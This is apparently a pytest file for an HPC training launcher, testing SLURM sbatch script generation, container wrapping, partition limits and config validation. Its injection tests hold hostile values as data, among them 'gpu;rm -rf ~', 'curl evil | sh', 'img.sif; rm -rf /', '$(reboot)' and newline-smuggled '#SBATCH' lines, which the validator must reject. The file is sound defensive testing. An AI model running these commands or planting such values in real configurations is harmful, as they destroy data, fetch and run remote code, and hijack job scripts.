"""The SLURM plan: submitit parameters, the sbatch script snapshot, quoting, and containers."""

from __future__ import annotations

import pytest

from hpctrain.config import load_config
from hpctrain.errors import ConfigError
from hpctrain.launch.slurm.plan import plan_slurm
from hpctrain.orchestrate.validate import validate


def _plan(*overrides: str, folder: str | None = None):
    cfg = load_config(["cluster=slurm", *overrides])
    validate(cfg)
    return plan_slurm(cfg, "/runs/r1", "/venv/bin/python", folder)


def test_sbatch_script_matches_snapshot(snapshot) -> None:
    plan = _plan(
        "cluster.nodes=2",
        "cluster.ranks_per_node=4",
        "cluster.gpus_per_node=4",
        "cluster.partition=gpu",
        "cluster.account=proj1",
        "cluster.qos=high",
        "cluster.mem_gb=64",
        "cluster.constraint='a100&ib'",
        "cluster.exclusive=true",
        "cluster.time_min=90",
        "cluster.setup=[module load cuda/12.2,source /opt/env.sh]",
        "+cluster.env.NCCL_DEBUG=INFO",
        "parallelism.fusion_threshold_mb=32",
    )
    snapshot("slurm_sbatch.txt", plan.sbatch_script())


def test_executor_parameters_use_submitit_names() -> None:
    p = _plan("cluster.nodes=3", "cluster.ranks_per_node=2", "cluster.cpus_per_rank=4", "cluster.mem_gb=1.5")
    ex = p.executor
    assert (ex["nodes"], ex["ntasks_per_node"], ex["cpus_per_task"], ex["mem"]) == (3, 2, 4, "1.5GB")
    assert "--kill-on-bad-exit=1" in ex["srun_args"] and "--mpi=pmix" in ex["srun_args"]
    assert p.world_size == 6 and p.env["OMP_NUM_THREADS"] == "4"
    assert "gpus_per_node" not in ex and "partition" not in ex  # unset options stay unset


def test_hostile_env_value_is_quoted_in_the_script() -> None:
    script = _plan("+cluster.env.EVIL='$(touch /tmp/pwned); echo hi'").sbatch_script()
    assert "export EVIL='$(touch /tmp/pwned); echo hi'" in script


def test_array_script_uses_array_log_names_and_parallelism_cap() -> None:
    script = _plan("cluster.array_parallelism=4").sbatch_script(array_size=10)
    assert "#SBATCH --array=0-9%4" in script and "%A_%a_0_log.out" in script


def test_shape_ignores_job_name_but_not_resources() -> None:
    a, b = _plan("run.name=a"), _plan("run.name=b")
    assert a.shape() == b.shape()
    assert a.shape() != _plan("cluster.nodes=2").shape()
    assert a.shape() == _plan("precision=bf16", "train.steps=7").shape()  # content, not resources


def _rendered(*overrides: str):
    """The plan without asking this host for the runtime (Apptainer is not installed here)."""
    return plan_slurm(load_config(["cluster=slurm", *overrides]), "/runs/r1", "/venv/bin/python")


def test_container_wraps_every_rank_in_apptainer() -> None:
    p = _rendered(
        "cluster.container=/images/hpctrain.sif", "cluster.gpus_per_node=2", "cluster.ranks_per_node=2"
    )
    assert " hpctrain-task apptainer exec --nv --bind " in p.python  # in the host's requeue wrapper
    assert "--bind /runs " in p.python  # the run's directory at the same path
    assert p.python.endswith("/images/hpctrain.sif /opt/venv/bin/python3")
    script = p.sbatch_script()
    assert "--mpi=pmix" in script and "apptainer exec --nv" in script  # host PMIx, hybrid model
    assert "--nv" not in _rendered("cluster.container=/i.sif").python  # no GPUs, no --nv


# (overrides, key) for SLURM configs that must never reach sbatch.
INVALID_SLURM = [
    (["cluster.nodes=0"], "cluster.nodes"),
    (["cluster.ranks_per_node=0"], "cluster.ranks_per_node"),
    (["cluster.time_min=0"], "cluster.time_min"),
    (["cluster.cpus_per_rank=0"], "cluster.cpus_per_rank"),
    (["cluster.mem_gb=-2"], "cluster.mem_gb"),
    (["cluster.queries_per_min=0"], "cluster.queries_per_min"),
    (["cluster.signal_delay_s=7200", "cluster.time_min=60"], "cluster.signal_delay_s"),
    (
        ["cluster.signal_delay_s=61", "cluster.time_min=2"],
        "cluster.signal_delay_s",
    ),  # < SLURM's 60 s resolution
    (["cluster.gpus_per_node=4", "cluster.ranks_per_node=2"], "cluster.ranks_per_node"),
    (["cluster.partition='gpu;rm -rf ~'"], "cluster.partition"),
    (["cluster.account='$(id)'"], "cluster.account"),
    (["cluster.qos='a b'"], "cluster.qos"),
    (["cluster.partition='gpu\n'"], "cluster.partition"),  # a trailing newline would start a line
    (["cluster.dependency='afterok:1\n#SBATCH --x'"], "cluster.dependency"),
    (["cluster.dependency='afterok:1;reboot'"], "cluster.dependency"),
    (["cluster.dependency=afterok"], "cluster.dependency"),  # no job id
    (["cluster.constraint='a100\nhostname'"], "cluster.constraint"),
    (["cluster.setup=['module load x; curl evil | sh']"], "cluster.setup[0]"),
    (["cluster.setup=['echo $(whoami)']"], "cluster.setup[0]"),
    (["cluster.setup=['echo `id`']"], "cluster.setup[0]"),
    (["cluster.setup=['a > /etc/passwd']"], "cluster.setup[0]"),
    (["cluster.setup=['line1\nline2']"], "cluster.setup[0]"),
    (["+cluster.env.X='a\nb'"], "cluster.env.X"),
    (["+cluster.env.1BAD=x"], "cluster.env.1BAD"),
    (["cluster.srun_args=['--x\n#SBATCH --y']"], "cluster.srun_args[0]"),
    (["run.name='job;reboot'"], "run.name"),
    (["run.name='$(reboot)'"], "run.name"),
    (["cluster.container='img.sif; rm -rf /'"], "cluster.container.image"),
    (["run.dir='/runs/a\n#SBATCH --x'"], "run.dir"),  # a path that would add a bare script line
    (["run.output_root='/runs\rtouch x'"], "run.output_root"),
    (["cluster.submitit_folder='/runs/s\n'"], "cluster.submitit_folder"),
    (["run.dir=/runs/100%"], "run.dir"),  # sbatch would expand %j-style patterns in it
    (["cluster.setup=['export A=\"1']"], "cluster.setup[0]"),  # unbalanced quote
    (["cluster.setup=['module load x \\\\']"], "cluster.setup[0]"),  # trailing backslash joins lines
    (["cluster.setup=['if true']"], "cluster.setup[0]"),  # a compound command needs more lines
    ([r"cluster.setup=['echo \${A']"], "cluster.setup[0]"),  # an unclosed ${ swallows the script
    (["cluster.setup=['A[']"], "cluster.setup[0]"),  # bash reads an array subscript to the end
    (["cluster.setup=['0#)']"], "cluster.setup[0]"),  # '#' inside a word is no comment to bash
    (["cluster.setup=['module load x # a )']"], "cluster.setup[0]"),  # refused, though bash would take it
    (["cluster.mpi=openmpi"], "cluster.mpi"),
    (["cluster.mpi=none"], "cluster.mpi"),  # backend=mpi needs PMI
    (["train.device=cuda"], "cluster.gpus_per_node"),
    (["cluster.max_requeues=-1"], "cluster.max_requeues"),
    (["cluster.array_parallelism=0"], "cluster.array_parallelism"),
]


@pytest.mark.parametrize("overrides,key", INVALID_SLURM, ids=[" ".join(o) for o, _ in INVALID_SLURM])
def test_invalid_slurm_config_is_rejected(overrides: list[str], key: str) -> None:
    with pytest.raises(ConfigError) as e:
        validate(load_config(["cluster=slurm", *overrides]))
    assert key in e.value.keys, str(e.value)


def test_signal_delay_may_use_everything_but_slurms_resolution() -> None:
    from hpctrain.facts import HostFacts

    validate(
        load_config(["cluster=slurm", "cluster.time_min=2", "cluster.signal_delay_s=60"]), HostFacts.example()
    )


def test_the_nodes_asked_for_are_held_to_the_clusters() -> None:
    from hpctrain.launch.slurm.nodes import node_problems, partitions

    table = partitions(
        "n1|debug*|2|1-infinite\nn2|debug*|2|1-infinite\nn3|debug*|4|1-infinite\nn1|tiny|2|1-1\n"
    )
    assert {k: (v.cpus, v.max_nodes) for k, v in table.items()} == {
        "debug": ({"n1": 2, "n2": 2, "n3": 4}, None),
        "": ({"n1": 2, "n2": 2, "n3": 4}, None),
        "tiny": ({"n1": 2}, 1),
    }
    cfg = load_config(
        ["cluster=slurm", "cluster.nodelist=[n1,n7]", "cluster.exclude=[n2,n3]", "cluster.nodes=2"]
    )
    problems = node_problems(cfg.cluster, table)
    assert [p.key for p in problems] == ["cluster.nodelist[1]", "cluster.exclude"]
    assert "leaves 1 of the 3 nodes of the default partition, and the job asks for 2" in problems[1].rule
    tiny = load_config(["cluster=slurm", "cluster.partition=tiny"])
    assert node_problems(tiny.cluster, table) == []
    assert node_problems(cfg.cluster, {}) == []  # sinfo said nothing: nothing is judged


@pytest.mark.parametrize(
    ("overrides", "key", "said"),
    [
        # issue 72: an allocation of these pended for ever (PartitionNodeLimit, PartitionConfig)
        (["cluster.nodes=8"], "cluster.nodes", "asks for 8 nodes; the default partition has 3"),
        (["cluster.partition=tiny", "cluster.nodes=2"], "cluster.nodes", "partition tiny lets a job have 1"),
        (["cluster.ranks_per_node=4"], "cluster.ranks_per_node", "need 4 CPUs; the nodes of the default partition have 3 at most"),
        (["cluster.ranks_per_node=2", "cluster.cpus_per_rank=2"], "cluster.ranks_per_node", "need 4 CPUs"),
    ],
)  # fmt: skip
def test_a_shape_the_partition_cannot_hold_is_refused_before_submitting(
    overrides: list[str], key: str, said: str
) -> None:
    from hpctrain.launch.slurm.nodes import node_problems, partitions

    table = partitions(
        "n1|debug*|2|1-infinite\nn2|debug*|3|1-infinite\nn3|debug*|2|1-infinite\nn1|tiny|2|1-1\n"
    )
    (problem,) = node_problems(load_config(["cluster=slurm", *overrides]).cluster, table)
    assert problem.key == key and said in problem.rule, problem
    # what fits is not judged: the largest node's CPUs, every node of the partition
    fits = load_config(["cluster=slurm", "cluster.nodes=3", "cluster.ranks_per_node=3"])
    assert node_problems(fits.cluster, table) == []


def test_the_slurm_plan_says_what_the_local_plan_says_about_the_workload(tmp_path) -> None:
    """The two planners drifted (issue 55): the local plan's dry run named the script and the code
    snapshot, SLURM's did not. Both now say the workload's and the layout's notes."""
    from hpctrain.facts import HostFacts
    from hpctrain.launch.local.plan import plan_local

    (tmp_path / "train.py").write_text("print('hi')\n")
    overrides = [f"script.path={tmp_path / 'train.py'}", "code.snapshot=false"]
    slurm = plan_slurm(load_config(["cluster=slurm", *overrides]), "/runs/r1", "/venv/bin/python")
    local = plan_local(load_config(overrides), HostFacts.example(), "/runs/r1", "/venv/bin/python")
    said = f"runs the script {tmp_path / 'train.py'} on every rank"
    assert any(said in n for n in slurm.notes) and any(said in n for n in local.notes)


@pytest.mark.parametrize(
    ("overrides", "mpi", "gloo", "store"),
    [
        (["parallelism.engine=horovod", "parallelism.backend=mpi"], True, False, False),
        (["parallelism.engine=horovod", "parallelism.backend=gloo"], False, True, False),
        (["parallelism.engine=ddp"], False, False, True),
        (
            ["parallelism=pipeline", "parallelism.stages=2", "parallelism.microbatches=2", "model=mlp"],
            True,
            False,
            True,
        ),
    ],
)
def test_both_planners_record_what_the_ranks_need_from_one_place(
    overrides: list[str], mpi: bool, gloo: bool, store: bool
) -> None:
    """launch/needs.py decides once what the ranks need; both plans carry it (plan.json) and say
    the same notes after their own (the launcher's) lines."""
    from hpctrain.facts import HostFacts
    from hpctrain.launch.local.plan import plan_local
    from hpctrain.records import RankNeeds

    local = plan_local(
        load_config(["cluster.ranks=2", *overrides]), HostFacts.example(), "/runs/r1", "/venv/bin/python"
    )
    slurm = plan_slurm(
        load_config(["cluster=slurm", "cluster.nodes=1", "cluster.ranks_per_node=2", *overrides]),
        "/runs/r1",
        "/venv/bin/python",
    )
    want = RankNeeds(mpi=mpi, gloo_rendezvous=gloo, torch_store=store)
    assert local.needs == slurm.needs == want
    assert local.notes[len(local.notes) - len(slurm.notes) :] == slurm.notes
